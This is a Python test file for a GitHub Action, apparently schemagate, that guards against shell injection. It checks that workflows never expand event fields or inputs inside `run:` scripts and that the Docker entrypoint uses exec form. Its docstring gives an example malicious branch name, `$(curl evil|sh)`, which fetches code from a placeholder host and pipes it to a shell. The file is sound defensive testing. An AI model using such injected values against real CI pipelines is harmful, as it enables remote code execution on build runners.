"""Event text never reaches a shell: a branch named `$(curl evil|sh)` or a dispatch input with
backticks is text to schemagate, never a command. The Action is a Docker action whose entrypoint is
exec-form (no shell between the runner and Python), and no workflow of the project or its examples
expands an event field or an input inside a `run:` script, where the runner would paste it into
the shell's text before the shell reads it."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[2]
# an expression the runner pastes into a script's text: anything the event or a person chose
_UNTRUSTED = re.compile(r"\$\{\{[^}]*\b(github\.event|github\.head_ref|inputs\.|github\.ref_name)")


def _runs(node: Any) -> list[str]:
    if isinstance(node, dict):
        found = [str(node["run"])] if "run" in node else []
        return found + [r for value in node.values() for r in _runs(value)]
    if isinstance(node, list):
        return [r for item in node for r in _runs(item)]
    return []


def test_no_workflow_pastes_event_text_into_a_script() -> None:
    files = [
        *ROOT.glob(".github/workflows/*.yml"),
        *ROOT.glob("examples/workflows/*.yml"),
        ROOT / "action.yml",
    ]
    assert len(files) >= 5
    pasted = [
        (path.name, script)
        for path in files
        for script in _runs(yaml.safe_load(path.read_text()))
        if _UNTRUSTED.search(script)
    ]
    assert pasted == []


def test_the_action_reaches_python_without_a_shell() -> None:
    action = yaml.safe_load((ROOT / "action.yml").read_text())
    assert action["runs"]["using"] == "docker" and "args" not in action["runs"]
    entry = re.search(r"^ENTRYPOINT (.+)$", (ROOT / "Dockerfile").read_text(), re.M)
    assert entry is not None
    assert isinstance(json.loads(entry[1]), list)  # exec form: no /bin/sh -c
